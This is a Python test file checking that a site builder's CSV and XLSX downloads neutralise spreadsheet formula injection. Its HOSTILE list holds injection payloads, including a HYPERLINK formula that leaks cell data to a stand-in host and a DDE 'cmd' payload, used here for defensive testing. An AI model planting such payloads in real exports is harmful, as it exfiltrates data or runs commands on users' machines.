"""Text handed to a spreadsheet stays text: no formula cells, CSV cells neutralised (OWASP)."""

from __future__ import annotations

import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from site_builder.site.downloads import csv_bytes, xlsx_bytes
from site_builder.site.sheetcells import csv_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "名称": HOSTILE,
            "数值": [1, -2.5, 3, 4, 5, 6],
            "负数文字": ["-", "普通", "=", "a=b", "", None],
        }
    )


def test_xlsx_has_no_formula_cell_and_keeps_the_text():
    book = load_workbook(io.BytesIO(xlsx_bytes(_frame(), "=SUM(A1)")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in book.active["A"][1:]] == HOSTILE  # the text itself, unchanged
    assert book.active["B3"].value == -2.5  # numbers stay numbers


def test_xlsx_is_byte_stable_between_writes():
    import time

    first = xlsx_bytes(_frame(), "表")
    time.sleep(2.1)  # zip entries carry a two-second clock; core.xml the save time
    assert xlsx_bytes(_frame(), "表") == first
    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert "2020-04-16" in core


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_beginning_with_a_formula_character_are_quoted(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["普通", "a=b", "", 3, -2.5, None])
def test_csv_other_cells_are_unchanged(value):
    assert csv_safe(value) == value


def test_csv_file_neutralises_every_text_cell_and_keeps_numbers():
    frame = pd.read_csv(
        io.BytesIO(csv_bytes(_frame())), encoding="utf-8-sig", keep_default_na=False
    )
    assert list(frame["名称"]) == ["'" + t for t in HOSTILE]
    assert list(frame["数值"]) == [1, -2.5, 3, 4, 5, 6]
    assert list(frame["负数文字"])[:4] == ["'-", "普通", "'=", "a=b"]
    for column in frame.columns:
        for value in frame[column]:
            assert not (isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"))
